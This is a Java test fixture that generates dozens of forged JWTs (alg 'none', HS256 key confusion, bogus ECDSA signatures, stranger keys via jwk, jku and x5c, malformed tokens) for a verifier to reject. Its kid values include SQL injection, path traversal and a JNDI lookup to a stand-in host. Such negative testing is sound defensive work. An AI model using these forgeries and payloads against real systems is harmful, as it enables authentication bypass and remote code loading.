package shop.orderly.launcher;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.PrivateKey;
import java.security.PublicKey;
import java.security.interfaces.ECPrivateKey;
import java.security.interfaces.ECPublicKey;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import tools.jackson.databind.json.JsonMapper;

/**
 * The table of tokens that nobody may accept, by what is wrong with each. All of them speak of a person who exists and
 * may do anything; where the fault is in the claims, the signature is true.
 */
final class Forgeries {
    private static final JsonMapper JSON = new JsonMapper();
    private static final String ES256 = "SHA256withECDSAinP1363Format";

    private final Forge forge;
    private final Map<String, String> table = new LinkedHashMap<>();

    private Forgeries(Forge forge) {
        this.forge = forge;
    }

    /** Token by name. */
    static Map<String, String> of(Forge forge, String refreshToken) {
        var forgeries = new Forgeries(forge);
        forgeries.withoutSignature();
        forgeries.withAnotherSignature();
        forgeries.withAnotherKey();
        forgeries.withAnotherHeader();
        forgeries.broken();
        forgeries.add("the refresh token as access token", refreshToken);
        ForgedClaims.of(forge).forEach(forgeries::add);
        for (var service : List.of("order-saga", "gateway", "ops")) {
            var other = ServiceForge.of(service);
            forgeries.add(
                    "a token of " + service + " by its certificate's key", other.token("orderly.service", "service"));
            forgeries.add("a user's token by the key of " + service, other.token("orderly.user", "access"));
        }
        return forgeries.table;
    }

    private void add(String name, String token) {
        if (table.put(name, token) != null) {
            throw new IllegalStateException("Two forgeries are called " + name);
        }
    }

    private void withoutSignature() {
        for (var none : List.of("none", "None", "NONE", "nOnE", "none ", "", "null")) {
            var header = "{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}";
            add("alg '" + none + "' without a signature", Forge.unsigned(header, forge.claimsText()) + ".");
            add(
                    "alg '" + none + "' with the signature kept",
                    Forge.unsigned(header, forge.claimsText()) + "." + forge.part(2));
        }
        add("no alg", Forge.unsigned("{\"typ\":\"JWT\"}", forge.claimsText()) + "." + forge.part(2));
        add("alg of another type", Forge.unsigned("{\"alg\":[\"ES256\"]}", forge.claimsText()) + "." + forge.part(2));
        add("empty signature", forge.part(0) + "." + forge.part(1) + ".");
        add("stripped signature", forge.part(0) + "." + forge.part(1));
        add("a header alone", forge.part(0));
    }

    private void withAnotherSignature() {
        var input = forge.part(0) + "." + forge.part(1) + ".";
        add("a signature of zeros", input + text(new byte[64]));
        add("a signature of r = s = 1", input + text(ones()));
        add("a signature of r = s = order", input + text(order()));
        add(
                "a signature in DER",
                Forge.signed(forge.headerText(), forge.claimsText(), forge.privateKey(), "SHA256withECDSA"));
        add("half a signature", input + forge.part(2).substring(0, 43));
        add("a signature and more", forge.token() + "AAAA");
        add("another one's signature", input + forge.claiming("jti", "other").split("\\.", -1)[2]);
        add("claims changed after signing", forge.part(0) + "." + text("{\"sub\":\"root\"}") + "." + forge.part(2));
        add("header changed after signing", text("{\"alg\":\"ES256\"}") + "." + forge.part(1) + "." + forge.part(2));
        for (var encoding : List.of("pem", "der", "raw", "base64")) {
            add("HS256 with the public key as secret, " + encoding, forge.hashed(hs256(), publicKey(encoding)));
        }
        add("HS256 with an empty-looking secret", forge.hashed(hs256(), new byte[32]));
        add(
                "HS256 with a known default",
                forge.hashed(hs256(), "change-me-in-production".getBytes(StandardCharsets.UTF_8)));
    }

    private void withAnotherKey() {
        var stranger = Forge.stranger("secp256r1");
        add("a stranger's key under our kid", by(stranger.getPrivate(), forge.header()));
        for (var kid : List.of(
                "unknown",
                "",
                "../../../../dev/null",
                "/dev/null",
                "file:///dev/null",
                "' OR '1'='1",
                "'; DROP TABLE users.signing_key; --",
                "https://evil.test/key",
                "${jndi:ldap://evil.test/a}",
                "\u0000",
                "%00",
                "k".repeat(2_000))) {
            var shown = kid.length() > 50 ? "very long" : kid.replace('\u0000', '0');
            add(
                    "a stranger's key, kid '" + shown + "'",
                    by(stranger.getPrivate(), Forge.with(forge.header(), "kid", kid)));
        }
        add("kid of another type", by(stranger.getPrivate(), Forge.with(forge.header(), "kid", List.of(1))));
        add("a stranger's key without kid", by(stranger.getPrivate(), Forge.with(forge.header(), "kid", null)));
        add(
                "a stranger's key in jwk",
                by(stranger.getPrivate(), Forge.with(forge.header(), "jwk", jwk(stranger.getPublic()))));
        add(
                "a stranger's key in jwk, no kid",
                by(
                        stranger.getPrivate(),
                        Forge.with(Forge.with(forge.header(), "jwk", jwk(stranger.getPublic())), "kid", null)));
        for (var link : List.of("jku", "x5u")) {
            add(
                    "a stranger's key by " + link,
                    by(stranger.getPrivate(), Forge.with(forge.header(), link, "http://localhost:1/jwks.json")));
        }
        add(
                "a stranger's certificate in x5c",
                by(
                        stranger.getPrivate(),
                        Forge.with(
                                forge.header(),
                                "x5c",
                                List.of(Base64.getEncoder()
                                        .encodeToString(stranger.getPublic().getEncoded())))));
        add(
                "ES384",
                Forge.signed(
                        text(Forge.with(forge.header(), "alg", "ES384")),
                        forge.claimsText(),
                        Forge.stranger("secp384r1").getPrivate(),
                        "SHA384withECDSAinP1363Format"));
        add("ES256 with a P-384 key", by(Forge.stranger("secp384r1").getPrivate(), forge.header()));
        add(
                "ES512",
                Forge.signed(
                        text(Forge.with(forge.header(), "alg", "ES512")),
                        forge.claimsText(),
                        Forge.stranger("secp521r1").getPrivate(),
                        "SHA512withECDSAinP1363Format"));
    }

    private void withAnotherHeader() {
        add("crit that nobody understands", forge.heading("crit", List.of("exp")));
        add("crit without its header", forge.heading("crit", List.of("urn:nobody")));
        add("alg in lower case", forge.heading("alg", "es256"));
        for (var alg : List.of("ES256K", "RS256", "PS256", "EdDSA", "HS256", "ECDH-ES")) {
            add("alg " + alg + " over our signature", forge.heading("alg", alg));
        }
        add("typ of another kind", forge.heading("typ", "dpop+jwt"));
        add(
                "alg twice",
                forge.signed(forge.headerText().replaceFirst("\\{", "{\"alg\":\"none\","), forge.claimsText()));
        for (var unasked : Map.of(
                        "jku",
                        "http://localhost:1/k",
                        "x5u",
                        "http://localhost:1/x",
                        "x5c",
                        List.of("AAAA"),
                        "b64",
                        true,
                        "zip",
                        "DEF",
                        "jwk",
                        Map.of("kty", "oct", "k", "AAAA"))
                .entrySet()) {
            add(unasked.getKey() + " that nobody asked for", forge.heading(unasked.getKey(), unasked.getValue()));
        }
        add("no kid", forge.heading("kid", null));
        add("a header that is no object", forge.signed("[]", forge.claimsText()));
        add("a header that is no JSON", forge.signed("{\"alg\":\"ES256\"", forge.claimsText()));
        add("a header of 5 000 brackets", forge.signed("[".repeat(5_000), forge.claimsText()));
    }

    private void broken() {
        add("nothing", "");
        add("a word", "token");
        add("only dots", "..");
        add("four parts", forge.token() + "." + forge.part(2));
        add("five parts, as if encrypted", forge.token() + ".a.b");
        add("padding", forge.part(0) + "=." + forge.part(1) + "=." + forge.part(2) + "==");
        add("no base64", "!!!.???.***");
        add("quoted", "\"" + forge.token() + "\"");
        add("twice, with a comma", forge.token() + "," + forge.token());
        add("cut short", forge.token().substring(0, 60));
        add(
                "oversized by 6 KB, of a stranger",
                Forge.signed(
                        forge.headerText(),
                        text(Forge.with(forge.claims(), "pad", "x".repeat(6_000))),
                        Forge.stranger("secp256r1").getPrivate(),
                        ES256));
        add("oversized by 60 KB", forge.part(0) + "." + "A".repeat(60_000) + "." + forge.part(2));
    }

    private String by(PrivateKey key, Map<String, Object> header) {
        return Forge.signed(text(header), forge.claimsText(), key, ES256);
    }

    private static Map<String, Object> hs256() {
        return Map.of("alg", "HS256", "typ", "JWT");
    }

    private byte[] publicKey(String encoding) {
        var der = forge.publicKey().getEncoded();
        var base64 = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(der);
        return switch (encoding) {
            case "der" -> der;
            case "raw" -> Arrays.copyOfRange(der, der.length - 64, der.length);
            case "base64" -> base64.getBytes(StandardCharsets.US_ASCII);
            default ->
                ("-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n")
                        .getBytes(StandardCharsets.US_ASCII);
        };
    }

    private static Map<String, Object> jwk(PublicKey key) {
        var point = ((ECPublicKey) key).getW();
        return Map.of(
                "kty",
                "EC",
                "crv",
                "P-256",
                "x",
                text(unsigned(point.getAffineX())),
                "y",
                text(unsigned(point.getAffineY())));
    }

    private static byte[] unsigned(BigInteger number) {
        var bytes = number.toByteArray();
        var padded = new byte[32];
        for (var i = 0; i < Math.min(32, bytes.length); i++) {
            padded[31 - i] = bytes[bytes.length - 1 - i];
        }
        return padded;
    }

    private static byte[] ones() {
        var bytes = new byte[64];
        bytes[31] = 1;
        bytes[63] = 1;
        return bytes;
    }

    private byte[] order() {
        var order = ((ECPrivateKey) forge.privateKey()).getParams().getOrder();
        var half = unsigned(order);
        var both = Arrays.copyOf(half, 64);
        System.arraycopy(half, 0, both, 32, 32);
        return both;
    }

    private static String text(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static String text(String json) {
        return text(json.getBytes(StandardCharsets.UTF_8));
    }

    private static String text(Map<String, Object> json) {
        return JSON.writeValueAsString(json);
    }
}
